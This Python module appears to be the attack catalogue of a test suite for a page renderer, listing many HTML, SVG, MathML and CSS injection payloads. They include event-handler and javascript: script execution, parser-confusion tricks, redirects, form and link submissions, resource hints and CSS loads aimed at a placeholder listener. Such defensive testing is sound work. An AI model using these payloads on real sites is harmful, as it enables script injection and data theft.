"""What a hostile post or theme would try, each as a page's markup with the effect by which it is noticed.

In the markup stand ``$HIT`` for a script that says it ran, ``$URL`` for an address of the loopback listener, ``$HOST``
for its host and port, ``$RAW`` and ``$UDP`` for listeners of the attack's own, ``$FILES`` for the folder beside the
site as a ``file:`` address, ``$DIR`` for its path, ``$NAME`` for the attack.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum


class Effect(Enum):
    """What shows that an attack came through."""

    RAN = "ran"  # its script said so, from whatever frame
    ASKED = "asked"  # a listener heard of it
    LOOKED_UP = "looked up"  # the engine's own log has a name resolved
    READ = "read"  # what lies outside of the site is on the page
    SHOWN = "shown"  # a dialog, window, download, permission, full screen was asked of the program
    OPENED = "opened"  # another program was given an address
    CLIPBOARD = "clipboard"
    FOCUS = "focus"  # the field in which somebody types lost the keys
    NOTHING = "nothing"  # also without protection: the engine itself has closed that way


class Way(Enum):
    """How an attack is tried where it works."""

    TOGETHER = "together"  # on one page with many others
    ALONE = "alone"  # it needs or ruins the whole page
    CLICK = "click"  # by a real click on #go
    CLICK_TOGETHER = "click together"  # the same, and the page stays for the next one


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    Attributes:
        probe: a condition that the page is asked, for what is READ.
        base: what the unprotected page is loaded from: our own scheme, or http, where the engine offers more.
    """

    name: str
    family: str
    markup: str
    effect: Effect = Effect.RAN
    way: Way = Way.TOGETHER
    probe: str = ""
    base: str = "ours"


def _attacks(
    family: str, effect: Effect, table: dict[str, str], way: Way = Way.TOGETHER, base: str = "ours"
) -> tuple[Attack, ...]:
    prefix = family.replace(" ", "-")
    return tuple(Attack(f"{prefix}-{name}", family, markup, effect, way, "", base) for name, markup in table.items())


def _reads(family: str, table: dict[str, tuple[str, str]], way: Way = Way.TOGETHER) -> tuple[Attack, ...]:
    prefix = family.replace(" ", "-")
    return tuple(
        Attack(f"{prefix}-{name}", family, markup, Effect.READ, way, probe) for name, (markup, probe) in table.items()
    )


_SCRIPTS = _attacks("script", Effect.RAN, {
    "inline": "<script>$HIT</script>",
    "of-site": "<script src='/js/$NAME.js'></script>",
    "module": "<script type=module>$HIT</script>",
    "module-of-site": "<script type=module src='/js/$NAME.js'></script>",
    "import": "<script type=module>import '/js/$NAME.js'</script>",
    "import-map": "<script type=importmap>{\"imports\": {\"evil\": \"/js/script-import-map.js\"}}</script>"
                  "<script type=module>import 'evil'</script>",
    "data": "<script src=\"data:text/javascript,$HIT\"></script>",
    "async": "<script async src='/js/$NAME.js'></script>",
    "defer": "<script defer src='/js/$NAME.js'></script>",
    "odd-type": "<script type='text/x-ecmascript'>$HIT</script>",
    "in-svg": "<svg><script>$HIT</script></svg>",
    "in-svg-by-address": "<svg><script href=\"data:text/javascript,$HIT\"></script></svg>",
    "eval": "<script>eval(\"$HIT\")</script>",
    "function": "<script>new Function(\"$HIT\")()</script>",
    "timer": "<script>setTimeout(() => { $HIT }, 10)</script>",
    "frame-callback": "<script>requestAnimationFrame(() => { $HIT })</script>",
    "made-element": "<script>{ const s = document.createElement('script'); s.text = \"$HIT\"; document.head.append(s) }</script>",
    "written": "<script>document.write('<scr' + 'ipt>$HIT</scr' + 'ipt>')</script>",
    "inner-html": "<div id=innerhtml></div><script>innerhtml.innerHTML = '<img src=x: onerror=\"$HIT\">'</script>",
    "custom-element": "<script>customElements.define('x-evil', class extends HTMLElement { connectedCallback() { $HIT } })</script><x-evil></x-evil>",
    "observer": "<script>new MutationObserver(() => { $HIT }).observe(document.documentElement, {subtree: true, childList: true}); document.body.append('x')</script>",
    "promise": "<script>Promise.resolve().then(() => { $HIT })</script>",
    "blob": "<script>import(URL.createObjectURL(new Blob([\"$HIT\"], {type: 'text/javascript'})))</script>",
    "noscript": "<noscript><p title=\"</noscript><img src=x: onerror='$HIT'>\"></noscript>",
    "shadow-root": "<div><template shadowrootmode=open><img src=x: onerror=\"$HIT\"></template></div>",
    "comment-end": "<!--><img src=x: onerror=\"$HIT\">-->",
    "title-end": "<textarea></textarea><img src=x: onerror=\"$HIT\"></textarea>",
    "history": "<script>history.replaceState({}, '', location.href); $HIT</script>",
    "post-message": "<script>addEventListener('message', (e) => { if (e.data === '$NAME') { $HIT } }); postMessage('$NAME', '*')</script>",
    "parent-message": "<script>addEventListener('message', (e) => { if (e.data === '$NAME') { $HIT } })</script>"
                      "<iframe srcdoc=\"<script>parent.postMessage('$NAME', '*')</script>\"></iframe>",
    "channel": "<script>{ const c = new MessageChannel(); c.port1.onmessage = () => { $HIT }; c.port2.postMessage(1) }</script>",
    "broadcast": "<script>{ const b = new BroadcastChannel('$NAME'); b.onmessage = () => { $HIT }; new BroadcastChannel('$NAME').postMessage(1) }</script>",
    "wasm": "<script>WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { $HIT })</script>",
})  # fmt: skip

_HANDLERS = _attacks("handler", Effect.RAN, {
    "img-error": "<img src=x: onerror=\"$HIT\">",
    "img-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=\"$HIT\" onerror=\"$HIT\">",
    "body-load": "<body onload=\"$HIT\">",
    "body-page-show": "<body onpageshow=\"$HIT\">",
    "svg-load": "<svg onload=\"$HIT\"></svg>",
    "svg-image": "<svg><image href=x: onerror=\"$HIT\"/></svg>",
    "svg-begin": "<svg width=9 height=9><rect width=9 height=9><animate attributeName=x dur=.01s onbegin=\"$HIT\"/></rect></svg>",
    "svg-end": "<svg width=9 height=9><rect width=9 height=9><animate attributeName=x dur=.01s onend=\"$HIT\"/></rect></svg>",
    "svg-set": "<svg width=9 height=9><rect width=9 height=9><set attributeName=x to=1 onbegin=\"$HIT\"/></rect></svg>",
    "details": "<details open ontoggle=\"$HIT\">x</details>",
    "video": "<video src=x: onerror=\"$HIT\"></video>",
    "source": "<video><source src=x: onerror=\"$HIT\"></video>",
    "audio": "<audio src=x: onerror=\"$HIT\"></audio>",
    "style-load": "<style onload=\"$HIT\">x {}</style>",
    "link-load": "<link rel=stylesheet href='data:text/css,x{}' onload=\"$HIT\">",
    "link-error": "<link rel=stylesheet href='/nowhere.css' onerror=\"$HIT\">",
    "script-error": "<script src='/nowhere.js' onerror=\"$HIT\"></script>",
    "frame-load": "<iframe onload=\"$HIT\"></iframe>",
    "object-error": "<object data='/nowhere.bin' onerror=\"$HIT\"></object>",
    "image-button": "<input type=image src=x: onerror=\"$HIT\">",
    "animation": "<style>@keyframes k { to { left: 1px } }</style><p style='animation: k .01s' onanimationstart=\"$HIT\">x</p>",
    "animation-end": "<style>@keyframes k2 { to { left: 1px } }</style><p style='animation: k2 .01s' onanimationend=\"$HIT\">x</p>",
    "content-visibility": "<p style='content-visibility: auto' oncontentvisibilityautostatechange=\"$HIT\">x</p>",
})  # fmt: skip

_HANDLERS_ALONE = _attacks("handler", Effect.RAN, {
    "focus": "<input autofocus onfocus=\"$HIT\">",
    "tab-stop": "<div tabindex=0 autofocus onfocus=\"$HIT\">x</div>",
    "frameset": "<frameset onload=\"$HIT\"><frame></frameset>",
}, Way.ALONE)  # fmt: skip

_CLICKED = _attacks("clicked", Effect.RAN, {
    "click": "<b id=go onclick=\"$HIT\">click</b>",
    "mouse-down": "<b id=go onmousedown=\"$HIT\">click</b>",
    "pointer": "<b id=go onpointerup=\"$HIT\">click</b>",
    "over": "<b id=go onmouseover=\"$HIT\">click</b>",
    "label": "<label id=go>click<input type=checkbox onchange=\"$HIT\"></label>",
    "summary": "<details ontoggle=\"$HIT\"><summary id=go>click</summary>x</details>",
    "popover": "<button id=go popovertarget=pop>click</button><div id=pop popover onbeforetoggle=\"$HIT\">x</div>",
    "invalid": "<form><input required oninvalid=\"$HIT\"><button id=go>click</button></form>",
    "submit": "<form onsubmit=\"$HIT; return false\"><button id=go>click</button></form>",
}, Way.CLICK_TOGETHER)  # fmt: skip

_JAVASCRIPT = _attacks("javascript address", Effect.RAN, {
    "link": "<a id=go href=\"javascript:$HIT\">click</a>",
    "upper-case": "<a id=go href=\"JaVaScRiPt:$HIT\">click</a>",
    "tab": "<a id=go href=\"java&#9;script:$HIT\">click</a>",
    "newline": "<a id=go href=\"java&#10;script:$HIT\">click</a>",
    "entities": "<a id=go href=\"&#x6a;avascript&colon;$HIT\">click</a>",
    "leading-control": "<a id=go href=\"&#1;javascript:$HIT\">click</a>",
    "svg-link": "<svg width=200 height=60><a id=go href=\"javascript:$HIT\"><text y=30 font-size=30>click</text></a></svg>",
    "svg-animated": "<svg width=200 height=60><a id=go><animate attributeName=href values=\"javascript:$HIT\" dur=9s /><text y=30 font-size=30>click</text></a></svg>",
    "area": "<map name=m><area id=area shape=rect coords=0,0,99,99 href=\"javascript:$HIT\"></map>"
            "<img id=go usemap=#m width=99 height=99 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    "form": "<form action=\"javascript:$HIT\"><button id=go>click</button></form>",
    "form-action": "<form><button id=go formaction=\"javascript:$HIT\">click</button></form>",
    "base-target": "<base target=_self><a id=go href=\"javascript:$HIT\">click</a>",
}, Way.CLICK_TOGETHER) + _attacks("javascript address", Effect.RAN, {
    "frame": "<iframe src=\"javascript:$HIT\"></iframe>",
    "frame-escaped": "<iframe src=\"java&Tab;script:$HIT\"></iframe>",
    "frame-in-frame": "<iframe srcdoc=\"<iframe src='javascript:console.log(&quot;HIT $NAME&quot;)'></iframe>\"></iframe>",
})  # fmt: skip

_FOREIGN = _attacks("svg", Effect.RAN, {
    "foreign-object": "<svg><foreignObject><img src=x: onerror=\"$HIT\"></foreignObject></svg>",
    "foreign-frame": "<svg><foreignObject><iframe srcdoc='<script>$HIT</script>'></iframe></foreignObject></svg>",
    "desc": "<svg><desc><img src=x: onerror=\"$HIT\"></desc></svg>",
    "title": "<svg><title><img src=x: onerror=\"$HIT\"></title></svg>",
    "document": "<iframe src='/svg/$NAME.svg'></iframe>",
    "object": "<object data='/svg/$NAME.svg' type='image/svg+xml'></object>",
    "embed": "<embed src='/svg/$NAME.svg' type='image/svg+xml'>",
    "data-frame": "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>$HIT</script></svg>\"></iframe>",
}) + _attacks("mathml", Effect.RAN, {
    "text": "<math><mtext><img src=x: onerror=\"$HIT\"></mtext></math>",
    "annotation": "<math><annotation-xml encoding='text/html'><script>$HIT</script></annotation-xml></math>",
    "namespaces": "<math><mtext><table><mglyph><style><!--</style><img src=x: onerror=\"$HIT\">--></style></mglyph></table></mtext></math>",
    "handler": "<style>@keyframes k4 { to { left: 1px } }</style><math><mi style='animation: k4 .01s' onanimationstart=\"$HIT\">x</mi></math>",
}) + _attacks("mathml", Effect.RAN, {"click": "<math><mi id=go onclick=\"$HIT\">click</mi></math>"}, Way.CLICK_TOGETHER)  # fmt: skip

_FRAMES = _attacks("frame", Effect.RAN, {
    "srcdoc": "<iframe srcdoc='<script>$HIT</script>'></iframe>",
    "srcdoc-handler": "<iframe srcdoc='<img src=x: onerror=\"$HIT\">'></iframe>",
    "srcdoc-entities": "<iframe srcdoc='&lt;script&gt;$HIT&lt;/script&gt;'></iframe>",
    "srcdoc-nested": "<iframe srcdoc='<iframe srcdoc=\"<script>console.log(&amp;quot;HIT $NAME&amp;quot;)</script>\"></iframe>'></iframe>",
    "sandbox": "<iframe sandbox=allow-scripts srcdoc='<script>$HIT</script>'></iframe>",
    "data": "<iframe src=\"data:text/html,<script>$HIT</script>\"></iframe>",
    "of-site": "<iframe src='/html/$NAME.html'></iframe>",
    "object-data": "<object data=\"data:text/html,<script>$HIT</script>\"></object>",
    "object-of-site": "<object data='/html/$NAME.html'></object>",
    "embed-data": "<embed src=\"data:text/html,<script>$HIT</script>\">",
    "embed-of-site": "<embed src='/html/$NAME.html'>",
    "blob": "<iframe id=blobframe></iframe><script>blobframe.src = URL.createObjectURL(new Blob(['<scr' + 'ipt>$HIT</scr' + 'ipt>'], {type: 'text/html'}))</script>",
    "refreshed": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=copydesk://site/html/$NAME.html'>\"></iframe>",
    "lazy": "<iframe loading=lazy srcdoc='<script>$HIT</script>'></iframe>",
    "no-credentials": "<iframe credentialless src='/html/$NAME.html'></iframe>",
}) + _attacks("frame", Effect.ASKED, {
    "remote": "<iframe src='$URL.html'></iframe>",
    "remote-object": "<object data='$URL.html' type='text/html'></object>",
    "remote-embed": "<embed src='$URL.html' type='text/html'>",
    "remote-refreshed": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=$URL'>\"></iframe>",
    "remote-in-frame": "<iframe srcdoc=\"<img src='$URL'>\"></iframe>",
    "remote-in-data": "<iframe src=\"data:text/html,<img src='$URL'>\"></iframe>",
}) + _attacks("frame", Effect.ASKED, {
    "frameset": "<frameset><frame src='$URL.html'></frameset>",
    "top": "<iframe srcdoc=\"<script>top.location = '$URL'</script>\"></iframe>",
}, Way.ALONE)  # fmt: skip

_REFRESH = _attacks("meta refresh", Effect.ASKED, {
    "now": "<meta http-equiv=refresh content='0;url=$URL'>",
    "quoted": "<meta http-equiv='REFRESH' content=\"0; URL='$URL'\">",
    "in-body": "<p>x</p><meta http-equiv=refresh content='0;url=$URL'>",
    "in-svg-title": "<svg><title><meta http-equiv=refresh content='0;url=$URL'></title></svg>",
    "in-noscript": "<noscript></noscript><template></template><meta http-equiv=refresh content='0,$URL'>",
}, Way.ALONE)  # fmt: skip

_STYLES = _attacks("css", Effect.ASKED, {
    "link": "<link rel=stylesheet href='$URL.css'>",
    "link-for-print": "<link rel=stylesheet media=print href='$URL.css'>",
    "import": "<style>@import url('$URL.css');</style>",
    "import-text": "<style>@import '$URL.css' screen;</style>",
    "import-layer": "<style>@import url('$URL.css') layer(x);</style>",
    "import-by-data": "<link rel=stylesheet href=\"data:text/css,@import url('$URL.css');\">",
    "import-of-site": "<link rel=stylesheet href='/css/$NAME.css'>",
    "font": "<style>@font-face { font-family: $NAME; src: url('$URL.woff2') }</style><p style='font-family: $NAME'>x</p>",
    "background": "<p style=\"background: url('$URL')\">x</p>",
    "background-by-set": "<p style=\"background: image-set(url('$URL') 1x)\">x</p>",
    "list": "<ul><li style=\"list-style-image: url('$URL')\">x</ul>",
    "content": "<style>#content-$NAME::before { content: url('$URL') }</style><p id=content-$NAME>x</p>",
    "border": "<p style=\"border: 1px solid; border-image: url('$URL') 1\">x</p>",
    "mask": "<p style=\"mask-image: url('$URL')\">x</p>",
    "shape": "<p style=\"float: left; width: 9px; shape-outside: url('$URL')\">x</p>",
    "cursor": "<p style=\"cursor: url('$URL'), auto\">x</p>",
    "cross-fade": "<p style=\"background: -webkit-cross-fade(url('$URL'), url('$URL?2'), 50%)\">x</p>",
    "by-value": "<style>input[value^=s] { background: url('$URL') }</style><input value=secret>",
    "variable": "<style>#variable-$NAME { --u: url('$URL'); background: var(--u) }</style><p id=variable-$NAME>x</p>",
    "table": "<table background='$URL'><tr><td>x</table>",
    "cell": "<table><tr><td background='$URL'>x</table>",
    "svg-style": "<svg><style>@import url('$URL.css');</style></svg>",
    "marker": "<style>#marker-$NAME::first-letter { background: url('$URL') }</style><p id=marker-$NAME>x</p>",
    "keyframes": "<style>@keyframes k-$NAME { from, to { background: url('$URL') } } #frames-$NAME { animation: k-$NAME 9s }</style><p id=frames-$NAME>x</p>",
}) + _attacks("css", Effect.ASKED, {"body": "<body background='$URL'>x"}, Way.ALONE)  # fmt: skip

_BASE = _attacks("base", Effect.ASKED, {
    "image": "<base href='http://$HOST/a/'><img src='$NAME'>",
    "style": "<base href='http://$HOST/a/'><link rel=stylesheet href='$NAME.css'>",
    "script": "<base href='http://$HOST/a/'><script src='$NAME.js'></script>",
    "frame": "<base href='http://$HOST/a/'><iframe src='$NAME.html'></iframe>",
    "refresh": "<base href='http://$HOST/a/'><meta http-equiv=refresh content='0;url=$NAME'>",
}, Way.ALONE) + _attacks("base", Effect.ASKED, {
    "form": "<base href='http://$HOST/a/'><form action='$NAME'><button id=go>click</button></form>",
    "link": "<base href='http://$HOST/a/'><a id=go href='$NAME'>click</a>",
}, Way.CLICK)  # fmt: skip

_FORMS = _attacks("form", Effect.ASKED, {
    "get": "<form action='$URL'><input name=a value=b><button id=go>click</button></form>",
    "post": "<form action='$URL' method=post><input name=a value=b><button id=go>click</button></form>",
    "plain": "<form action='$URL' method=post enctype=text/plain><input name=a value=b><input type=submit id=go></form>",
    "form-action": "<form><button id=go formaction='$URL'>click</button></form>",
    "outside": "<form id=f action='$URL'></form><button id=go form=f>click</button>",
    "image": "<form action='$URL'><input id=go type=image width=60 height=60 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></form>",
    "in-frame": "<iframe name=inner hidden></iframe><form target=inner action='$URL'><button id=go>click</button></form>",
    "frame-body": "<iframe id=go width=200 height=90 srcdoc=\"<form action='$URL'><button style='width:100vw;height:100vh'>click</button></form>\"></iframe>",
    "file": "<form action='$URL' method=post enctype=multipart/form-data><input type=file name=a><button id=go>click</button></form>",
}, Way.CLICK) + _attacks("form", Effect.ASKED, {
    "by-script": "<form id=auto action='$URL'></form><script>auto.submit()</script>",
    "by-request": "<form id=auto2 action='$URL'></form><script>auto2.requestSubmit()</script>",
}, Way.ALONE)  # fmt: skip

_LINKS = _attacks("link", Effect.ASKED, {
    "away": "<a id=go href='$URL'>click</a>",
    "ping": "<a id=go href='#x' ping='$URL'>click</a>",
    "area": "<map name=m2><area shape=rect coords=0,0,99,99 href='$URL'></map>"
            "<img id=go usemap=#m2 width=99 height=99 src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>",
    "svg": "<svg width=200 height=60><a id=go href='$URL'><text y=30 font-size=30>click</text></a></svg>",
    "of-frame": "<iframe id=go width=200 height=90 srcdoc=\"<a href='$URL' style='font-size:60px'>click</a>\"></iframe>",
    "top-of-frame": "<iframe id=go width=200 height=90 srcdoc=\"<a target=_top href='$URL' style='font-size:60px'>click</a>\"></iframe>",
    "by-label": "<a href='$URL'><label id=go>click</label></a>",
    "over-all": "<a id=go href='$URL' style='position: fixed; inset: 0'>click</a>",
}, Way.CLICK)  # fmt: skip

_HINTS = _attacks("hint", Effect.ASKED, {
    "preconnect": "<link rel=preconnect href='http://$RAW'>",
    "preconnect-anonymous": "<link rel=preconnect crossorigin href='http://$RAW'>",
    "prefetch": "<link rel=prefetch href='$URL'>",
    "preload-image": "<link rel=preload as=image href='$URL'>",
    "preload-set": "<link rel=preload as=image imagesrcset='$URL 1x'>",
    "preload-style": "<link rel=preload as=style href='$URL.css'>",
    "preload-script": "<link rel=preload as=script href='$URL.js'>",
    "preload-font": "<link rel=preload as=font crossorigin href='$URL.woff2'>",
    "preload-data": "<link rel=preload as=fetch crossorigin href='$URL'>",
    "module": "<link rel=modulepreload href='$URL.js'>",
    "in-body": "<p><link rel=preconnect href='http://$RAW'></p>",
    "by-script": "<script>{ const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://$RAW'; document.head.append(l) }</script>",
}) + _attacks("hint", Effect.ASKED, {
    "speculation": "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"http://$RAW/\"]}]}</script>",
}, Way.ALONE, "http") + _attacks("hint", Effect.LOOKED_UP, {
    "name": "<link rel=dns-prefetch href='//$NAME.test'>",
    "preconnect-name": "<link rel=preconnect href='http://$NAME.test'>",
})  # fmt: skip

_MEDIA = _attacks("media", Effect.ASKED, {
    "img": "<img src='$URL'>",
    "srcset": "<img srcset='$URL 1x'>",
    "picture": "<picture><source srcset='$URL'><img></picture>",
    "image-tag": "<image src='$URL'>",
    "image-button": "<input type=image src='$URL'>",
    "video": "<video src='$URL.mp4' preload=auto></video>",
    "poster": "<video poster='$URL'></video>",
    "source": "<video preload=auto><source src='$URL.mp4'></video>",
    "audio": "<audio src='$URL.mp3' preload=auto></audio>",
    "track": "<video crossorigin src='data:video/mp4,'><track default kind=captions src='$URL.vtt'></video>",
    "object": "<object data='$URL.svg' type='image/svg+xml'></object>",
    "embed": "<embed src='$URL.svg' type='image/svg+xml'>",
    "svg-image": "<svg><image href='$URL' width=9 height=9 /></svg>",
    "svg-old-link": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='$URL' width=9 height=9 /></svg>",
    "svg-filter": "<svg><filter id=fe-$NAME><feImage href='$URL'/></filter><rect width=9 height=9 filter='url(#fe-$NAME)'/></svg>",
}) + _attacks("media", Effect.ASKED, {
    "img-no-scheme": "<img src='//$HOST/a/$NAME'>",
}, Way.TOGETHER, "http")  # fmt: skip

TABLE: tuple[Attack, ...] = (
    *_SCRIPTS, *_HANDLERS, *_HANDLERS_ALONE, *_CLICKED, *_JAVASCRIPT, *_FOREIGN, *_FRAMES, *_REFRESH, *_STYLES, *_BASE,
    *_FORMS, *_LINKS, *_HINTS, *_MEDIA,
)  # fmt: skip
